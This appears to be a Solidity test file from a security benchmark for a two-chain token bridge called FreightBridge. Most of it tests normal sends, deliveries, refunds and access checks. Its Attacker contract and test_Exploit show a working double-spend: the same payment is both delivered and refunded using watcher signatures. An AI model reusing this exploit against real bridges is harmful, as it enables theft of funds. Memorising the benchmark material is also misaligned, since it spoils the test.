// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./FreightBridge.sol";

// assay-canary-f0153a5f-496f-428b-be12-42768bdf88e9

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usd is ERC20("Dollar", "USD") {
    address private immutable minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint64 private constant START = 1_790_000_000;

    Usd public usd;
    FreightBridge private near;
    FreightBridge private far;
    Attacker private mallory;
    uint256[] private keys;

    // Two bridges with the same watchers, and a payment of Mallory to itself, for which the watchers have signed what they saw.
    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        keys = [uint256(11), 12, 13, 14, 15, 16];
        // the first five in the order of their addresses
        for (uint256 i = 0; i < 5; i++) {
            for (uint256 j = i + 1; j < 5; j++) {
                if (vm.addr(keys[j]) < vm.addr(keys[i])) (keys[i], keys[j]) = (keys[j], keys[i]);
            }
        }
        address[] memory first = new address[](5);
        for (uint256 i = 0; i < 5; i++) first[i] = vm.addr(keys[i]);
        near = new FreightBridge(usd, 1, first);
        far = new FreightBridge(usd, 2, first);
        near.setLane(2, address(far), 2e18, 20_000e18);
        far.setLane(1, address(near), 3e18, 20_000e18);
        usd.mint(address(near), 50_000e18);
        usd.mint(address(far), 50_000e18);
        usd.mint(ANA, 50_000e18);
        vm.prank(ANA);
        usd.approve(address(near), 50_000e18);

        mallory = new Attacker(near, far);
        usd.mint(address(mallory), 20_002e18);
        mallory.start(usd);
        Payment memory p = payment(1, address(mallory), address(mallory), 20_000e18, 0, START + 1 hours);
        p.invoice = 0;
        mallory.learn(p, START, signed(far, sent(p), 3), signed(near, missing(p, START), 3));
    }

    function payment(uint64 nonce, address from, address to, uint256 amount, uint256 tip, uint64 deadline)
        private
        view
        returns (Payment memory)
    {
        return Payment(1, address(near), 2, address(far), nonce, deadline, from, to, amount, tip, "no. 5");
    }

    function sent(Payment memory p) private pure returns (bytes32) {
        return keccak256(abi.encode(keccak256("Sent(bytes32 id)"), keccak256(abi.encode(p))));
    }

    function missing(Payment memory p, uint64 checkedAt) private pure returns (bytes32) {
        bytes32 id = keccak256(abi.encode(p));
        return keccak256(abi.encode(keccak256("Missing(bytes32 id,uint64 checkedAt)"), id, checkedAt));
    }

    function sign(uint256 key, FreightBridge bridge, bytes32 hash) private returns (bytes memory) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("FreightBridge"),
                keccak256("1"),
                block.chainid,
                address(bridge)
            )
        );
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, keccak256(abi.encodePacked(hex"1901", domain, hash)));
        return abi.encodePacked(r, s, v);
    }

    function signed(FreightBridge bridge, bytes32 hash, uint256 count) private returns (bytes[] memory s) {
        s = new bytes[](count);
        for (uint256 i = 0; i < count; i++) s[i] = sign(keys[i], bridge, hash);
    }

    function order(address to, uint256 amount, uint256 tip) private pure returns (FreightBridge.Order memory) {
        return FreightBridge.Order(to, amount, tip, "no. 5");
    }

    function sendOne() private returns (Payment memory p) {
        vm.prank(ANA);
        near.send(2, order(BEN, 1_000e18, 10e18), 2 hours);
        return payment(2, ANA, BEN, 1_000e18, 10e18, START + 2 hours);
    }

    function test_Regular() public {
        Payment memory p = sendOne();
        bytes32 id = near.idOf(p);
        require(near.outgoing(id) == FreightBridge.State.Sent && usd.balanceOf(ANA) == 48_998e18, "sent");
        require(near.fees() == 4e18 && near.costOf(2, 5) == 2e18 + 5 && near.lastNonce() == 2, "fees");
        require(far.isOpen(p) && !near.isOpen(p), "open there");
        bytes[] memory s = signed(far, sent(p), 3);
        vm.prank(address(0xCA));
        far.deliver(p, s);
        require(far.paid(id) && !far.isOpen(p), "paid");
        require(usd.balanceOf(BEN) == 990e18 && usd.balanceOf(address(0xCA)) == 10e18, "and tipped");

        FreightBridge.Order[] memory orders = new FreightBridge.Order[](2);
        orders[0] = order(BEN, 100e18, 0);
        orders[1] = order(BEN, 20_000e18, 0);
        vm.prank(ANA);
        require(near.sendMany(2, orders, 3 hours).length == 2, "two");
        Payment[] memory ps = new Payment[](1);
        ps[0] = payment(3, ANA, BEN, 100e18, 0, START + 3 hours);
        bytes[][] memory ss = new bytes[][](1);
        ss[0] = signed(far, sent(ps[0]), 5);
        vm.warp(START + 3 hours);
        far.deliverMany(ps, ss);
        require(usd.balanceOf(BEN) == 1_090e18, "the first of them");

        vm.warp(START + 4 hours);
        p = payment(4, ANA, BEN, 20_000e18, 0, START + 3 hours);
        require(!far.isOpen(p), "too late");
        s = signed(near, missing(p, START + 3 hours + 1), 3);
        uint256 before = usd.balanceOf(ANA);
        near.refund(p, START + 3 hours + 1, s);
        require(usd.balanceOf(ANA) == before + 20_000e18, "refunded");
        require(near.outgoing(near.idOf(p)) == FreightBridge.State.Refunded, "for good");

        near.takeFees(BEN);
        require(near.fees() == 0 && usd.balanceOf(BEN) == 1_098e18, "taken");
        near.setWatcher(ANA, true);
        require(near.isWatcher(ANA) && near.quorum() == 4 && near.watchers().length == 6, "six");
        near.setWatcher(vm.addr(keys[4]), false);
        vm.prank(ANA);
        near.brake();
        near.unpause();
        vm.prank(vm.addr(keys[0]));
        far.brake();
        far.unpause();
        settle(near, far);
        settle(far, near);
    }

    // What the one bridge has not done yet, for both.
    function settle(FreightBridge bridge, FreightBridge other) private {
        FreightBridge.Order[] memory orders = new FreightBridge.Order[](1);
        orders[0] = order(BEN, 7e18, 0);
        uint32 dst = other.lane();
        vm.startPrank(ANA);
        usd.approve(address(bridge), 100e18);
        bridge.send(dst, orders[0], 1 hours);
        bridge.sendMany(dst, orders, 1 hours);
        vm.stopPrank();
        uint64 now_ = uint64(block.timestamp);
        uint64 nonce = bridge.lastNonce();
        Payment memory p = Payment(
            bridge.lane(), address(bridge), dst, address(other), nonce, now_ + 1 hours, ANA, BEN, 7e18, 0, "no. 5"
        );
        bridge.setWatcher(BEN, true);
        other.deliver(p, signed(other, sent(p), 3));
        p.nonce--;
        Payment[] memory ps = new Payment[](1);
        bytes[][] memory ss = new bytes[][](1);
        (ps[0], ss[0]) = (p, signed(other, sent(p), 3));
        vm.prank(ANA);
        bridge.send(dst, orders[0], 1 hours);
        other.deliverMany(ps, ss);
        p.nonce += 2;
        vm.warp(now_ + 2 hours);
        bridge.setWatcher(BEN, false);
        bridge.refund(p, now_ + 2 hours, signed(bridge, missing(p, now_ + 2 hours), 3));
        bridge.takeFees(BEN);
        bridge.transferOwnership(ANA);
        vm.startPrank(ANA);
        bridge.acceptOwnership();
        bridge.renounceOwnership();
        vm.stopPrank();
        require(bridge.owner() == address(0), "gone");
    }

    function test_RefusesOrders() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NoLane.selector, 3));
        near.send(3, order(BEN, 100, 0), 1 hours);
        vm.expectRevert("to nobody");
        near.send(2, order(address(0), 100, 0), 1 hours);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.BadAmount.selector, 0));
        near.send(2, order(BEN, 0, 0), 1 hours);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.BadAmount.selector, 20_000e18 + 1));
        near.send(2, order(BEN, 20_000e18 + 1, 0), 1 hours);
        vm.expectRevert("big tip");
        near.send(2, order(BEN, 100, 11), 1 hours);
        vm.expectRevert("too short or too long");
        near.send(2, order(BEN, 100, 10), 1 hours - 1);
        vm.expectRevert("too short or too long");
        near.send(2, order(BEN, 100, 10), 7 days + 1);
        vm.stopPrank();
    }

    function test_RefusesDeliveries() public {
        Payment memory p = sendOne();
        bytes[] memory s = signed(far, sent(p), 3);
        bytes[] memory t = signed(near, sent(p), 3);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NotHere.selector, 2, address(far)));
        near.deliver(p, t);
        vm.warp(START + 2 hours + 1);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.Over.selector, START + 2 hours));
        far.deliver(p, s);
        vm.warp(START + 2 hours);
        far.deliver(p, s);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.AlreadyPaid.selector, far.idOf(p)));
        far.deliver(p, s);
        vm.expectRevert("one list for each");
        far.deliverMany(new Payment[](0), new bytes[][](1));
    }

    function test_RefusesOtherEnds() public {
        Payment memory p = sendOne();
        p.srcBridge = ANA;
        bytes[] memory s = signed(far, sent(p), 3);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NoLane.selector, 1));
        far.deliver(p, s);
        (p.srcBridge, p.srcLane) = (address(0), 9);
        s = signed(far, sent(p), 3);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NoLane.selector, 9));
        far.deliver(p, s);
        p = sendOne();
        p.dstBridge = ANA;
        s = signed(far, sent(p), 3);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NotHere.selector, 2, ANA));
        far.deliver(p, s);
        (p.dstBridge, p.dstLane) = (address(far), 7);
        s = signed(far, sent(p), 3);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NotHere.selector, 7, address(far)));
        far.deliver(p, s);
    }

    function test_RefusesSignatures() public {
        Payment memory p = sendOne();
        bytes[] memory s = signed(far, sent(p), 2);
        vm.expectRevert(abi.encodeWithSelector(Watchers.NotEnough.selector, 2, 3));
        far.deliver(p, s);
        s = signed(far, sent(p), 3);
        s[1] = s[0];
        vm.expectRevert(abi.encodeWithSelector(Watchers.OutOfOrder.selector, vm.addr(keys[0])));
        far.deliver(p, s);
        (address a, address b, address c) = (vm.addr(keys[0]), vm.addr(keys[1]), vm.addr(keys[2]));
        far.setWatcher(vm.addr(keys[5]), true);
        far.setWatcher(a, false);
        s = signed(far, sent(p), 3);
        vm.expectRevert(abi.encodeWithSelector(Watchers.NotAWatcher.selector, a));
        far.deliver(p, s);
        require(far.isWatcher(b) && far.isWatcher(c), "the others are");
        s = signed(near, sent(p), 3);
        vm.expectRevert();
        far.deliver(p, s);
    }

    function test_RefusesRefunds() public {
        Payment memory p = sendOne();
        uint64 end = START + 2 hours;
        bytes[] memory s = signed(near, missing(p, START), 3);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NotOver.selector, end));
        near.refund(p, START, s);
        vm.warp(end);
        s = signed(near, missing(p, end), 3);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NotOver.selector, end));
        near.refund(p, end, s);
        vm.warp(end + 1);
        s = signed(near, missing(p, end + 2), 3);
        vm.expectRevert("not looked yet");
        near.refund(p, end + 2, s);
        s = signed(near, missing(p, end + 1), 3);
        vm.warp(end + 1 + 1 days + 1);
        vm.expectRevert("looked too long ago");
        near.refund(p, end + 1, s);
        vm.warp(end + 1 + 1 days);
        near.refund(p, end + 1, s);
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NotOut.selector, near.idOf(p)));
        near.refund(p, end + 1, s);
    }

    function test_RefusesRefundSignatures() public {
        Payment memory p = sendOne();
        uint64 end = START + 2 hours;
        vm.warp(end + 1);
        bytes[] memory s = signed(near, missing(p, end + 1), 2);
        vm.expectRevert(abi.encodeWithSelector(Watchers.NotEnough.selector, 2, 3));
        near.refund(p, end + 1, s);
    }

    function test_RefusesWhenBraked() public {
        Payment memory p = sendOne();
        bytes[] memory s = signed(far, sent(p), 3);
        vm.prank(vm.addr(keys[0]));
        near.brake();
        vm.prank(vm.addr(keys[0]));
        far.brake();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        far.deliver(p, s);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        far.deliverMany(new Payment[](0), new bytes[][](0));
        vm.startPrank(ANA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        near.send(2, order(BEN, 100, 0), 1 hours);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        near.sendMany(2, new FreightBridge.Order[](0), 1 hours);
        vm.stopPrank();
        vm.warp(START + 3 hours);
        s = signed(near, missing(p, START + 3 hours), 3);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        near.refund(p, START + 3 hours, s);
    }

    function stranger() private {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
    }

    function test_RefusesStrangers() public {
        vm.prank(vm.addr(keys[0]));
        near.brake();
        vm.startPrank(ANA);
        stranger();
        near.setWatcher(ANA, true);
        stranger();
        near.setLane(3, ANA, 0, 1);
        stranger();
        near.takeFees(ANA);
        stranger();
        near.unpause();
        vm.expectRevert(abi.encodeWithSelector(Watchers.NotAWatcher.selector, ANA));
        far.brake();
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert(abi.encodeWithSelector(FreightBridge.NoLane.selector, 1));
        near.setLane(1, address(far), 0, 1);
        vm.expectRevert(abi.encodeWithSelector(Watchers.NoChange.selector, ANA));
        near.setWatcher(ANA, false);
        address a = vm.addr(keys[0]);
        vm.expectRevert(abi.encodeWithSelector(Watchers.NoChange.selector, a));
        near.setWatcher(a, true);
        near.setWatcher(a, false);
        near.setWatcher(vm.addr(keys[1]), false);
        a = vm.addr(keys[2]);
        vm.expectRevert("too few watchers");
        near.setWatcher(a, false);
        vm.expectRevert("too few watchers");
        new FreightBridge(usd, 3, new address[](0));
    }

    function exploit() public {
        mallory.take();
        vm.warp(START + 1 hours + 1);
        mallory.takeAgain();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 40_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(near);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    FreightBridge private near;
    FreightBridge private far;
    Payment private own;
    uint64 private checkedAt;
    bytes[] private sent;
    bytes[] private missing;

    constructor(FreightBridge near_, FreightBridge far_) {
        (near, far) = (near_, far_);
    }

    function start(IERC20 usd) external {
        usd.approve(address(near), 20_002e18);
        near.send(2, FreightBridge.Order(address(this), 20_000e18, 0, 0), 1 hours);
    }

    // what the watchers have signed on request
    function learn(Payment memory p, uint64 at, bytes[] memory a, bytes[] memory b) external {
        require(checkedAt == 0, "learnt");
        (own, checkedAt, sent, missing) = (p, at, a, b);
    }

    function take() external {
        far.deliver(own, sent);
    }

    function takeAgain() external {
        near.refund(own, checkedAt, missing);
    }
}
